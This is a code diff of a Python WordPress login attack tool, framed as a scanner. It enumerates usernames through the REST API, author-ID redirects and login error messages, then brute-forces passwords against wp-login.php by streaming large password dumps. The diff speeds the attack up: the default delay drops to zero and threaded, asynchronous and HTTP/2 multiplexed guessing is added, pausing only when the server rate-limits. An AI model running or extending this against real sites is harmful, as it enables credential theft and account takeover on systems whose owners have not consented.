@@ -1,39 +1,217 @@
 import requests
 import argparse
-import json
+import asyncio
+import functools
+import importlib.util
+import re
+import sys
 import time
-from typing import List, Dict
+from concurrent.futures import ThreadPoolExecutor
+from http import cookiejar
+from typing import Iterable, Iterator, List, Dict
+from urllib.parse import quote_plus, urlencode, urlparse
 
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
 
-# Load lines from a wordlist file
-def load_list(file_path: str) -> List[str]:
-    with open(file_path, "r") as f:
-        return [line.strip() for line in f if line.strip()]
+from src.output.save_results import dumps_json, save_results
 
+try:
+    import aiohttp
+except ImportError:
+    aiohttp = None
 
-# Detect user enumeration
-def detect_user_enumeration(base_url: str, usernames: List[str], invalid_user_keywords: List[str], session: requests.Session, debug: bool = False) -> (Dict, List[str]):
+try:
+    import httpx
+except ImportError:
+    httpx = None
+
+# httpx raises ImportError when AsyncClient(http2=True) is constructed
+# without the h2 extra installed, so HTTP/2 capability means both
+_HTTP2_AVAILABLE = httpx is not None and importlib.util.find_spec("h2") is not None
+
+
+FORM_HEADERS = {"Content-Type": "application/x-www-form-urlencoded"}
+
+
+# Pre-encode the form fields that never change between attempts so the
+# hot loop only has to splice in the username and password
+def encode_common_fields(base_url: str) -> str:
+    return urlencode({"wp-submit": "Log In", "redirect_to": base_url, "testcookie": "1"})
+
+
+# Cookie policy that refuses to store Set-Cookie responses: WordPress sets
+# cookies on every login reply and the jar would otherwise grow with the
+# number of attempts. Cookies set explicitly on the jar are still sent.
+class _NoStoreCookiePolicy(cookiejar.DefaultCookiePolicy):
+    def set_ok(self, cookie, request):
+        return False
+
+
+# Build a session with keep-alive pooling so every login attempt reuses
+# the same TCP/TLS connection instead of paying a handshake per request;
+# the pool is sized to max_workers so threaded probes never block on a socket
+def create_session(max_workers: int = 10) -> requests.Session:
+    session = requests.Session()
+    retries = Retry(total=1, connect=1, read=0, redirect=0, status=0)
+    adapter = HTTPAdapter(pool_connections=2, pool_maxsize=max(max_workers, 32), max_retries=retries)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    session.headers.update({"User-Agent": "Mozilla/5.0 (compatible; WPScanner/1.0)"})
+    session.cookies.set_policy(_NoStoreCookiePolicy())
+    return session
+
+
+# Fetch the login page once so the session carries the test cookie WP
+# checks for and any hidden form fields it expects; attempts then take the
+# cheaper "cookie present" server path and get smaller error responses.
+# This GET also pre-warms the pool: DNS is resolved, the TCP connection is
+# established and the TLS session ticket is cached before the first real
+# probe, so every attempt hits the keep-alive fast path.
+# Returns pre-encoded extra form fields to append to each attempt body.
+def prime_login_session(session: requests.Session, base_url: str) -> str:
+    extra = ""
+    try:
+        resp = session.get(base_url.rstrip("/") + "/wp-login.php", timeout=5)
+        host = urlparse(base_url).hostname or ""
+        session.cookies.set("wordpress_test_cookie", "WP Cookie check", domain=host)
+        match = re.search(rb'name="_wp_http_referer" value="([^"]*)"', resp.content)
+        if match:
+            extra = "&_wp_http_referer=" + quote_plus(match.group(1).decode("utf-8", "replace"))
+    except requests.RequestException:
+        pass
+    return extra
+
+
+# Combine a keyword list into one case-insensitive bytes pattern so each
+# response body is scanned once, without decoding it to str first; cached
+# so the same list is normalized and compiled only once per scan
+@functools.lru_cache(maxsize=None)
+def _compile_keywords(keywords: tuple) -> "re.Pattern":
+    return re.compile(b"|".join(re.escape(k.lower().encode()) for k in keywords), re.IGNORECASE)
+
+
+def compile_keywords(keywords: List[str]) -> "re.Pattern":
+    return _compile_keywords(tuple(keywords))
+
+
+# Re-iterable view of a wordlist file: each iteration streams lines from
+# disk, so even multi-million-line password dumps never sit in memory and
+# a break on first success stops reading the rest of the file
+class Wordlist:
+    def __init__(self, file_path: str):
+        self.file_path = file_path
+
+    def __iter__(self) -> Iterator[str]:
+        with open(self.file_path, "r") as f:
+            for line in f:
+                stripped = line.strip()
+                if stripped:
+                    yield stripped
+
+
+# Load a wordlist file lazily
+def load_list(file_path: str) -> Iterable[str]:
+    return Wordlist(file_path)
+
+
+# Fast path: the WP REST API can list registered users in one request
+# instead of one login POST per candidate. Returns None when the endpoint
+# is blocked or does not return a user list.
+def _enumerate_via_rest(base_url: str, session: requests.Session) -> set:
+    try:
+        resp = session.get(base_url.rstrip("/") + "/wp-json/wp/v2/users", params={"per_page": 100}, timeout=5)
+        users = resp.json()
+    except (requests.RequestException, ValueError):
+        return None
+
+    if not isinstance(users, list):
+        return None
+
+    names = set()
+    for user in users:
+        if isinstance(user, dict):
+            for key in ("slug", "name"):
+                if user.get(key):
+                    names.add(str(user[key]).lower())
+    return names or None
+
+
+# Second fast path: /?author=N redirects to /author/<slug>/ for existing
+# author IDs — a handful of HEAD requests with no body to scan at all
+def _enumerate_via_author_ids(base_url: str, session: requests.Session, max_author_id: int = 10) -> set:
+    base = base_url.rstrip("/")
+    slugs = set()
+    for author_id in range(1, max_author_id + 1):
+        try:
+            resp = session.head(f"{base}/?author={author_id}", timeout=5, allow_redirects=False)
+        except requests.RequestException:
+            return None
+        match = re.search(r"/author/([^/]+)/?", resp.headers.get("Location", ""))
+        if match:
+            slugs.add(match.group(1).lower())
+    return slugs or None
+
+
+# Detect user enumeration; probes run concurrently on a thread pool since
+# the work is pure network wait and urllib3's connection pool is thread-safe
+def detect_user_enumeration(base_url: str, usernames: Iterable[str], invalid_user_keywords: List[str], session: requests.Session, debug: bool = False, max_workers: int = 10, extra_fields: str = "") -> (Dict, List[str]):
     endpoint = base_url.rstrip("/") + "/wp-login.php"
     found_users = []
 
-    for username in usernames:
-        data = {
-            "log": username,
-            "pwd": "FakePass!@#",
-            "wp-submit": "Log In",
-            "redirect_to": base_url,
-            "testcookie": "1"
-        }
+    # Try the cheap vectors before falling back to N login POSTs; each
+    # is only called if the previous one came up empty, so a REST hit
+    # costs one request and zero author-ID probes
+    for vector, enumerate_vector in (("/wp-json/wp/v2/users", _enumerate_via_rest),
+                                     ("/?author=N", _enumerate_via_author_ids)):
+        known_users = enumerate_vector(base_url, session)
+        if known_users is not None:
+            found_users = [u for u in usernames if u.lower() in known_users]
+            if debug:
+                print(f"[DEBUG] Enumerated {len(known_users)} users via {vector}")
+            return {
+                "type": "User Enumeration",
+                "detected": bool(found_users),
+                "vector": vector,
+                "confidence": "medium" if found_users else "low"
+            }, found_users
+    invalid_re = compile_keywords(invalid_user_keywords)
+    common = f"pwd={quote_plus('FakePass!@#')}&{encode_common_fields(base_url)}{extra_fields}"
+
+    # Measure the response size for a username that cannot exist: when the
+    # server sends Content-Length, candidates matching the baseline size are
+    # invalid without downloading the body at all
+    invalid_clen = None
+    try:
+        canary = session.post(endpoint, data=f"log={quote_plus('__definitely_not_a_user__')}&{common}", headers=FORM_HEADERS, timeout=5)
+        if invalid_re.search(canary.content):
+            invalid_clen = canary.headers.get("Content-Length")
+    except requests.RequestException:
+        pass
+
+    def probe(username: str) -> (str, bool):
+        data = f"log={quote_plus(username)}&{common}"
 
         try:
-            resp = session.post(endpoint, data=data, timeout=5)
-            is_invalid = any(keyword.lower() in resp.text.lower() for keyword in invalid_user_keywords)
+            resp = session.post(endpoint, data=data, headers=FORM_HEADERS, timeout=5, allow_redirects=False, stream=True)
+            clen = resp.headers.get("Content-Length")
+            if invalid_clen is not None and clen is not None:
+                is_invalid = clen == invalid_clen
+                resp.close()
+            else:
+                # No baseline or chunked response: fall back to the body scan
+                is_invalid = bool(invalid_re.search(resp.content))
+        except requests.RequestException as e:
+            print(f"[!] Error contacting {endpoint}: {e}")
+            is_invalid = True
+        return username, is_invalid
+
+    with ThreadPoolExecutor(max_workers=max_workers) as executor:
+        for username, is_invalid in executor.map(probe, usernames):
             if debug:
                 print(f"[DEBUG] Tested user '{username}' → Invalid? {is_invalid}")
             if not is_invalid:
                 found_users.append(username)
-        except requests.RequestException as e:
-            print(f"[!] Error contacting {endpoint}: {e}")
 
     result = {
         "type": "User Enumeration",
@@ -45,48 +223,269 @@ def detect_user_enumeration(base_url: str, usernames: List[str], invalid_user_ke
     return result, found_users
 
 
+# Fingerprint how the target signals login failure: a known-bad login
+# whose error page carries the failure keywords means the body signal is
+# usable; otherwise only the wp-admin redirect is trustworthy and the
+# brute-force loop never needs to read a body at all
+def detect_signal_mode(session: requests.Session, base_url: str, login_fail_indicators: List[str], extra_fields: str = "") -> str:
+    endpoint = base_url.rstrip("/") + "/wp-login.php"
+    fail_re = compile_keywords(login_fail_indicators)
+    data = f"log={quote_plus('__definitely_not_a_user__')}&pwd=x&{encode_common_fields(base_url)}{extra_fields}"
+    try:
+        resp = session.post(endpoint, data=data, headers=FORM_HEADERS, timeout=5, allow_redirects=False)
+        if fail_re.search(resp.content):
+            return "body"
+    except requests.RequestException:
+        pass
+    return "redirect"
+
+
+# Build a success predicate specialized to this scan: the redirect
+# keywords are inlined as constants into a generated function, so the
+# per-attempt check pays no list construction or generator iteration.
+# In "redirect" mode only the status line and Location header are
+# consulted; in "body" mode the body is read lazily (via read_head) when
+# the redirect test fails.
+def make_success_check(redirect_keywords: List[str], login_fail_indicators: List[str], mode: str = "body"):
+    fail_re = compile_keywords(login_fail_indicators)
+    redirect_expr = " or ".join(f"{keyword!r} in location" for keyword in redirect_keywords) or "False"
+    code = (
+        "def _check(status, location, read_head):\n"
+        f"    if (status == 301 or status == 302) and ({redirect_expr}):\n"
+        "        return True\n"
+        + ("    return False\n" if mode == "redirect" else "    return not fail_re.search(read_head())\n")
+    )
+    namespace = {"fail_re": fail_re}
+    exec(code, namespace)
+    return namespace["_check"]
+
+
 # Detect brute-force login
 def detect_brute_force(
     base_url: str,
     usernames: List[str],
-    passwords: List[str],
+    passwords: Iterable[str],
     login_fail_indicators: List[str],
     redirect_keywords: List[str],
     delay: float,
     session: requests.Session,
-    debug: bool = False
+    debug: bool = False,
+    extra_fields: str = ""
 ) -> Dict:
     endpoint = base_url.rstrip("/") + "/wp-login.php"
-    credentials_found = []
+    # Structure-of-arrays accumulation: two flat string lists instead of a
+    # dict allocation per hit; zipped into records once at the end
+    found_usernames = []
+    found_passwords = []
+    mode = detect_signal_mode(session, base_url, login_fail_indicators, extra_fields)
+    check = make_success_check(redirect_keywords, login_fail_indicators, mode)
+    common = encode_common_fields(base_url) + extra_fields
 
+    # Prepare the request once: URL, headers and cookies are merged a
+    # single time, and each attempt only swaps the body in place
+    prepped = session.prepare_request(requests.Request("POST", endpoint, headers=FORM_HEADERS, data=f"log=&pwd=&{common}"))
+
+    # Nested instead of itertools.product: product would materialize the
+    # whole password file into a tuple up front, defeating the Wordlist's
+    # streaming. Each username re-streams the file (that is what the
+    # re-iterable view is for), and a success breaks out without reading
+    # the rest of it.
     for username in usernames:
         for password in passwords:
-            data = {
-                "log": username,
-                "pwd": password,
-                "wp-submit": "Log In",
-                "redirect_to": base_url,
-                "testcookie": "1"
-            }
+            data = f"log={quote_plus(username)}&pwd={quote_plus(password)}&{common}"
 
             try:
-                resp = session.post(endpoint, data=data, timeout=5, allow_redirects=False)
+                # stream=True defers the body transfer: a 302 to wp-admin is
+                # decided from the status line + Location header alone, and
+                # failures only need the first few KB for the keyword scan
+                prepped.body = data
+                prepped.headers["Content-Length"] = str(len(data))
+                resp = session.send(prepped, timeout=5, allow_redirects=False, stream=True)
+
+                # Back off only when the server actually pushes back
+                if resp.status_code in [429, 503]:
+                    resp.close()
+                    try:
+                        wait = float(resp.headers.get("Retry-After", ""))
+                    except ValueError:
+                        wait = 1.0
+                    if debug:
+                        print(f"[DEBUG] Rate limited ({resp.status_code}), backing off {wait:.1f}s")
+                    time.sleep(wait)
+                    continue
+
                 location = resp.headers.get("Location", "")
 
-                login_failed = any(keyword.lower() in resp.text.lower() for keyword in login_fail_indicators)
-                redirected = resp.status_code in [301, 302] and any(key in location for key in redirect_keywords)
+                success = check(resp.status_code, location, lambda: resp.raw.read(4096, decode_content=True))
+                resp.close()
 
                 if debug:
-                    print(f"[DEBUG] {username}:{password} → Redirect: {location} | Failed: {login_failed} | Success: {redirected or not login_failed}")
+                    print(f"[DEBUG] {username}:{password} → Redirect: {location} | Success: {success}")
 
-                if redirected or not login_failed:
-                    credentials_found.append({"username": username, "password": password})
+                if success:
+                    found_usernames.append(username)
+                    found_passwords.append(password)
+                    if delay:
+                        time.sleep(delay)
                     break  # Stop further attempts for this username
 
             except requests.RequestException as e:
                 print(f"[!] Error during brute-force attempt: {e}")
 
-            time.sleep(delay)
+            if delay:
+                time.sleep(delay)
+
+    credentials_found = [{"username": u, "password": p} for u, p in zip(found_usernames, found_passwords)]
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }
+
+
+# Bounded submission window for the async sweeps: the grid generator is
+# consumed lazily and at most 2*max_workers tasks exist at once, so the
+# password Wordlist streams instead of being drained into task objects
+# up front (the async twin of the serial path's nested-loop fix)
+async def _run_windowed(coros: Iterator, max_workers: int) -> None:
+    pending = set()
+    limit = max_workers * 2
+    for coro in coros:
+        pending.add(asyncio.create_task(coro))
+        if len(pending) >= limit:
+            _, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
+    if pending:
+        await asyncio.wait(pending)
+
+
+# Concurrent brute-force using aiohttp: keeps max_workers attempts in
+# flight instead of waiting one RTT per attempt, short-circuiting
+# per-username as soon as a valid credential is found
+async def brute_force_async(
+    base_url: str,
+    usernames: List[str],
+    passwords: Iterable[str],
+    login_fail_indicators: List[str],
+    redirect_keywords: List[str],
+    delay: float,
+    max_workers: int,
+    debug: bool = False
+) -> Dict:
+    endpoint = base_url.rstrip("/") + "/wp-login.php"
+    credentials_found = []
+    fail_re = compile_keywords(login_fail_indicators)
+    sem = asyncio.Semaphore(max_workers)
+    base_data = {"wp-submit": "Log In", "redirect_to": base_url, "testcookie": "1"}
+
+    connector = aiohttp.TCPConnector(limit=max_workers, ttl_dns_cache=300, keepalive_timeout=30)
+    async with aiohttp.ClientSession(connector=connector) as session:
+
+        async def try_login(username: str, password: str, found_evt: asyncio.Event):
+            data = {**base_data, "log": username, "pwd": password}
+
+            async with sem:
+                if found_evt.is_set():
+                    return
+                if delay:
+                    await asyncio.sleep(delay)
+                try:
+                    async with session.post(endpoint, data=data, timeout=aiohttp.ClientTimeout(total=5), allow_redirects=False) as resp:
+                        location = resp.headers.get("Location", "")
+                        redirected = resp.status in [301, 302] and any(key in location for key in redirect_keywords)
+                        if redirected:
+                            login_failed = False
+                        else:
+                            body = await resp.read()
+                            login_failed = bool(fail_re.search(body))
+
+                        if debug:
+                            print(f"[DEBUG] {username}:{password} → Redirect: {location} | Failed: {login_failed} | Success: {redirected or not login_failed}")
+
+                        if (redirected or not login_failed) and not found_evt.is_set():
+                            found_evt.set()
+                            credentials_found.append({"username": username, "password": password})
+                except (aiohttp.ClientError, asyncio.TimeoutError) as e:
+                    print(f"[!] Error during brute-force attempt: {e}")
+
+        def grid():
+            for username in usernames:
+                found_evt = asyncio.Event()
+                for password in passwords:
+                    if found_evt.is_set():
+                        break  # stop reading passwords for a cracked user
+                    yield try_login(username, password, found_evt)
+
+        await _run_windowed(grid(), max_workers)
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }
+
+
+# Brute-force over a single HTTP/2 connection: many attempts are
+# multiplexed on one TLS session instead of opening max_workers sockets.
+# httpx negotiates via ALPN and falls back to HTTP/1.1 keep-alive on its
+# own when the target does not speak h2 — but the client itself needs
+# the h2 package, so callers must gate on _HTTP2_AVAILABLE.
+async def brute_force_http2(
+    base_url: str,
+    usernames: List[str],
+    passwords: Iterable[str],
+    login_fail_indicators: List[str],
+    redirect_keywords: List[str],
+    delay: float,
+    max_workers: int,
+    debug: bool = False
+) -> Dict:
+    credentials_found = []
+    fail_re = compile_keywords(login_fail_indicators)
+    sem = asyncio.Semaphore(max_workers)
+    base_data = {"wp-submit": "Log In", "redirect_to": base_url, "testcookie": "1"}
+
+    limits = httpx.Limits(max_connections=2, max_keepalive_connections=2)
+    async with httpx.AsyncClient(http2=True, base_url=base_url.rstrip("/"), limits=limits, timeout=5.0) as client:
+
+        async def try_login(username: str, password: str, found_evt: asyncio.Event):
+            data = {**base_data, "log": username, "pwd": password}
+
+            async with sem:
+                if found_evt.is_set():
+                    return
+                if delay:
+                    await asyncio.sleep(delay)
+                try:
+                    resp = await client.post("/wp-login.php", data=data)
+                    location = resp.headers.get("Location", "")
+                    redirected = resp.status_code in [301, 302] and any(key in location for key in redirect_keywords)
+                    login_failed = False if redirected else bool(fail_re.search(resp.content))
+
+                    if debug:
+                        print(f"[DEBUG] {username}:{password} → Redirect: {location} | Failed: {login_failed} | Success: {redirected or not login_failed}")
+
+                    if (redirected or not login_failed) and not found_evt.is_set():
+                        found_evt.set()
+                        credentials_found.append({"username": username, "password": password})
+                except httpx.HTTPError as e:
+                    print(f"[!] Error during brute-force attempt: {e}")
+
+        def grid():
+            for username in usernames:
+                found_evt = asyncio.Event()
+                for password in passwords:
+                    if found_evt.is_set():
+                        break  # stop reading passwords for a cracked user
+                    yield try_login(username, password, found_evt)
+
+        await _run_windowed(grid(), max_workers)
 
     return {
         "type": "Brute-force Login",
@@ -107,44 +506,81 @@ def main():
     parser.add_argument("--invalid-user-keywords", nargs="+", default=["invalid username", "user does not exist", "unknown user"])
     parser.add_argument("--login-fail-indicators", nargs="+", default=["incorrect password", "login failed", "wrong password"])
     parser.add_argument("--success-redirect-keywords", nargs="+", default=["wp-admin"])
-    parser.add_argument("--delay", type=float, default=0.5, help="Delay between login attempts in seconds")
+    parser.add_argument("--delay", type=float, default=0.0, help="Fixed delay between login attempts in seconds (0 = adapt to 429/503 responses only)")
+    parser.add_argument("--max-workers", type=int, default=10, help="Concurrent requests for the brute-force phase (requires aiohttp)")
+    parser.add_argument("--http2", action="store_true", help="Multiplex brute-force attempts over one HTTP/2 connection (requires httpx)")
+    parser.add_argument("--output", help="Also write the JSON results to this file")
+    parser.add_argument("--pretty", action="store_true", help="Indent the JSON printed to stdout (default is compact, for piping to jq etc.)")
     parser.add_argument("--debug", action="store_true", help="Enable debug logging")
 
     args = parser.parse_args()
 
-    session = requests.Session()
+    session = create_session(args.max_workers)
     base_url = args.url
     usernames = load_list(args.usernames)
     passwords = load_list(args.passwords)
 
-    enum_result, valid_usernames = detect_user_enumeration(
-        base_url,
-        usernames,
-        args.invalid_user_keywords,
-        session,
-        args.debug
-    )
+    try:
+        extra_fields = prime_login_session(session, base_url)
 
-    if enum_result["detected"]:
-        brute_result = detect_brute_force(
+        enum_result, valid_usernames = detect_user_enumeration(
             base_url,
-            valid_usernames,
-            passwords,
-            args.login_fail_indicators,
-            args.success_redirect_keywords,
-            args.delay,
+            usernames,
+            args.invalid_user_keywords,
             session,
-            args.debug
+            args.debug,
+            args.max_workers,
+            extra_fields
         )
-    else:
-        brute_result = {
-            "type": "Brute-force Login",
-            "detected": False,
-            "vector": "/wp-login.php",
-            "usernames_tested": [],
-            "credentials_found": [],
-            "confidence": "low"
-        }
+
+        if enum_result["detected"]:
+            if args.http2 and not _HTTP2_AVAILABLE:
+                print("[!] --http2 needs httpx with the h2 extra (pip install 'httpx[http2]'); falling back")
+            if args.http2 and _HTTP2_AVAILABLE:
+                brute_result = asyncio.run(brute_force_http2(
+                    base_url,
+                    valid_usernames,
+                    passwords,
+                    args.login_fail_indicators,
+                    args.success_redirect_keywords,
+                    args.delay,
+                    args.max_workers,
+                    args.debug
+                ))
+            elif aiohttp is not None and args.max_workers > 1:
+                brute_result = asyncio.run(brute_force_async(
+                    base_url,
+                    valid_usernames,
+                    passwords,
+                    args.login_fail_indicators,
+                    args.success_redirect_keywords,
+                    args.delay,
+                    args.max_workers,
+                    args.debug
+                ))
+            else:
+                brute_result = detect_brute_force(
+                    base_url,
+                    valid_usernames,
+                    passwords,
+                    args.login_fail_indicators,
+                    args.success_redirect_keywords,
+                    args.delay,
+                    session,
+                    args.debug,
+                    extra_fields
+                )
+        else:
+            brute_result = {
+                "type": "Brute-force Login",
+                "detected": False,
+                "vector": "/wp-login.php",
+                "usernames_tested": [],
+                "credentials_found": [],
+                "confidence": "low"
+            }
+    finally:
+        session.close()
 
     # Only include the relevant keys in final JSON output
     output = {
@@ -161,9 +597,11 @@ def main():
     }
 
     try:
-        print(json.dumps(output, indent=2))
+        sys.stdout.buffer.write(dumps_json(output, pretty=args.pretty) + b"\n")
+        if args.output:
+            save_results(output, args.output)
     except Exception as e:
-        print(f"[!] Error printing JSON output: {e}")
+        print(f"[!] Error writing JSON output: {e}")
 
 
 if __name__ == "__main__":